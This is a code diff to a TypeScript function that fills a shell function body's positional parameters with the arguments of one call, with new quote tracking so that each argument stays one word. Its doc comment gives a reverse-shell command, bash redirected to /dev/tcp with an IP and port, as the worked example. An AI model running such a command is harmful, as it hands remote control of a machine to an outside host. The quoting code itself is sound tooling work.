@@ -3,21 +3,45 @@ import { shellQuote } from '../toolcall.js';
 /** An argument that reads the same unquoted and inside double quotes. */
 const PLAIN = /^[\w.\/:@%+=,~-]*$/;
 
+/** Text as it must appear inside double quotes to stay itself. */
+const inDoubleQuotes = (s: string) => s.replace(/[\\"$`]/g, (c) => `\\${c}`);
+
 /**
  * A function body with its positional parameters replaced by the arguments of one call:
  * `bash -i >& /dev/tcp/$1/$2 0>&1` called with `198.51.100.7 4444`. `"$@"` becomes each argument
  * quoted, `$*` and `$@` the arguments joined, `$#` their count, `$1`…`$9` and `${1}`…`${9}` the
- * argument (quoted when it holds shell syntax). A linear scan of the body.
+ * argument, written so that it stays one word where it stands: quoted when bare, escaped inside
+ * double quotes, left alone inside single quotes (where bash does not expand it). A linear scan.
  */
 export function withPositional(body: string, args: readonly string[]): string {
   let out = '';
+  let quote: '' | "'" | '"' = '';
   for (let i = 0; i < body.length; i++) {
     const c = body[i]!;
-    if (c === '"' && body.startsWith('"$@"', i)) {
+    if (quote === "'") {
+      if (c === "'") quote = '';
+      out += c;
+      continue;
+    }
+    if (c === '\\') {
+      out += body.slice(i, i + 2);
+      i++;
+      continue;
+    }
+    if (!quote && body.startsWith('"$@"', i)) {
       out += args.map(shellQuote).join(' ');
       i += 3;
       continue;
     }
+    // `"$1"` is one double-quoted word wherever it stands, inside `$( … )` too, where the quoting starts afresh
+    const whole = c === '"' ? /^"\$(?:([1-9])|\{([1-9])\})"/.exec(body.slice(i, i + 6)) : null;
+    if (whole) {
+      out += `"${inDoubleQuotes(args[Number(whole[1] ?? whole[2]) - 1] ?? '')}"`;
+      i += whole[0].length - 1;
+      continue;
+    }
+    if (c === "'" && !quote) quote = "'";
+    else if (c === '"') quote = quote ? '' : '"';
     if (c !== '$') {
       out += c;
       continue;
@@ -30,12 +54,8 @@ export function withPositional(body: string, args: readonly string[]): string {
       continue;
     }
     i += braced ? 3 : 1;
-    if (p === '#') out += String(args.length);
-    else if (p === '@' || p === '*') out += args.every((a) => PLAIN.test(a)) ? args.join(' ') : shellQuote(args.join(' '));
-    else {
-      const a = args[Number(p) - 1] ?? '';
-      out += PLAIN.test(a) ? a : shellQuote(a);
-    }
+    const value = p === '#' ? String(args.length) : p === '@' || p === '*' ? args.join(' ') : (args[Number(p) - 1] ?? '');
+    out += quote ? inDoubleQuotes(value) : PLAIN.test(value) || p === '#' ? value : shellQuote(value);
   }
   return out;
 }
